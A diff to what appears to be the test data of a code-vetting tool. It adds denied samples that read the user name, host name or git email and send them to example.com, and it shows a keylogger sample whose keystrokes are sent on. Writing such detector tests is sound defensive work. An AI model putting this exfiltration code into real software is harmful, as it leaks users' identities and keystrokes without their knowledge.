@@ -2,7 +2,8 @@
 comprehension's condition or second loop, the environment sent through a dict comprehension
 or through DNS names, system files that run or resolve things written by their plain path,
 a browser's locked password store copied before it is opened, a screenshot or a secret
-written into a buffer that is then sent, and a keyboard hook whose keys are sent.
+written into a buffer that is then sent, the user's or machine's name read from a command's
+output and sent, and a keyboard hook whose keys are sent.
 
 Each sample is inert (a command ``id`` or a download from ``attacker.invalid``; vetting
 only reads files) and each was allowed or only held on 70aaa8c. The near-misses are the
@@ -75,6 +76,20 @@ DENIED: dict[str, str] = {
         + POST.format(data="b.getvalue()")
         + "\n"
     ),
+    # Who and where the machine is, read from a command's output and sent on import.
+    "user-name-from-whoami": (
+        "import os, requests\nu = os.popen('whoami').read()\n"
+        "requests.get('https://example.com/?u=' + u)\n"
+    ),
+    "host-name-from-a-command": (
+        "import subprocess, urllib.request\nh = subprocess.check_output(['hostname'])\n"
+        "urllib.request.urlopen('https://example.com/p', data=h)\n"
+    ),
+    "git-identity": (
+        "import subprocess, requests\ne = subprocess.getoutput('git config user.email')\n"
+        + POST.format(data="e")
+        + "\n"
+    ),
     # Keys pressed, handed to a callback that sends them.
     "pynput-keylogger": (
         "import requests\nfrom pynput import keyboard\n\n\ndef on(key):\n"
@@ -121,6 +136,10 @@ ALLOWED: dict[str, str] = {
     "picture-saved-into-a-buffer-and-uploaded": (
         "import io, requests\n\n\ndef upload(img, url):\n    b = io.BytesIO()\n"
         "    img.save(b, 'PNG')\n    return requests.post(url, files={'f': b.getvalue()})\n"
+    ),
+    "machine-type-from-uname": (
+        "import subprocess\n\n\ndef machine():\n"
+        "    return subprocess.check_output(['uname', '-m']).decode().strip()\n"
     ),
     "hotkey-that-sends-nothing": (
         "from pynput import keyboard\n\n\ndef run(action):\n"
